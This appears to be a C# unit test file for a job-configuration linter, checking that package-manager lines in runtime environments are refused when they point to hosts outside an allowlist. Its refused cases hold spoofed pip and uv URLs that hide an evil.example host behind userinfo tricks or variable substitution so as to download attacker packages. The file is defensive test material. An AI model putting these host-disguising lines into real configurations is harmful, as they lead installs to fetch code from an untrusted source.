using Rayquest.JobLint;
using Rayquest.JobModel.Diagnostics;

namespace Rayquest.Adversary.Tests.Rules;

/// <summary>Lines of package managers that lead somewhere else than a first look at them says.</summary>
[Hole(18)]
public sealed class PackageLineTests
{
    private static TestRepository Strict() =>
        new TestRepository().Put("policies/rules.yaml", "archiveHosts: [github.com, pypi.example.com]\n");

    [Theory]
    // What is before an @ is a user's name, whatever characters it has.
    [InlineData("runtimeEnv: {pip: [\"p @ https://github.com'@evil.example/p-1-py3-none-any.whl\"]}")]
    [InlineData("runtimeEnv: {pip: [\"p @ https://github.com,@evil.example/p-1-py3-none-any.whl\"]}")]
    [InlineData("runtimeEnv: {pip: ['p @ https://github.com\"@evil.example/p-1-py3-none-any.whl']}")]
    [InlineData("env: {PIP_INDEX_URL: \"https://github.com,@evil.example/simple\"}")]
    // pip and uv fill variables into what they read.
    [InlineData(
        "submissionMode: HTTPMode\nenv: {SRC: \"https://evil.example/p-1.whl\"}\nruntimeEnv: {pip: [\"p @ ${SRC}\"]}"
    )]
    [InlineData(
        "submissionMode: HTTPMode\nenv: {SRC: \"https://evil.example/simple\"}\nruntimeEnv: {pip: [\"--index-url ${SRC}\"]}"
    )]
    [InlineData(
        "submissionMode: HTTPMode\nenv: {SRC: \"https://evil.example/s\"}\nruntimeEnv: {uv: {packages: [\"p @ ${SRC}\"]}}"
    )]
    [InlineData(
        "submissionMode: HTTPMode\nenv: {SRC: \"https://evil.example/s\"}\nruntimeEnv: {py_executable: \"uv run --index $SRC\"}"
    )]
    public void They_are_refused(string more)
    {
        IReadOnlyList<Finding> findings = Strict().Small("train", more + "\n").Lint().Findings;
        findings.ShouldContain(
            f => (f.Rule.Code == "RQ5016" || f.Rule.Code == "RQ5011") && f.Severity == Severity.Error,
            TestRepository.Print(findings)
        );
    }

    [Theory]
    [InlineData("runtimeEnv: {pip: [\"torch==2.5.1\", \"p[extra,more]==1.2; python_version > '3.10'\"]}")]
    [InlineData("runtimeEnv: {py_executable: \"uv run --index 'https://pypi.example.com/simple'\"}")]
    [InlineData("env: {UV_INDEX: \"https://pypi.example.com/a,https://github.com/b\"}")]
    [InlineData("env: {UV_INDEX: \"https://pypi.example.com,https://github.com\"}")]
    [InlineData("runtimeEnv: {pip: [\"torch==${VERSION}\"]}")]
    [InlineData("runtimeEnv: {pip: [\"--index-url https://me:${TOKEN}@pypi.example.com/simple\"]}")]
    [InlineData("runtimeEnv: {pip: [\"-r ${RAY_RUNTIME_ENV_CREATE_WORKING_DIR}/requirements.txt\"]}")]
    public void Plain_ones_are_not(string more)
    {
        IReadOnlyList<Finding> findings = Strict().Small("train", more + "\n").Lint().Findings;
        findings.ShouldNotContain(
            f => f.Rule.Code == "RQ5016" || f.Rule.Code == "RQ5011",
            TestRepository.Print(findings)
        );
    }
}
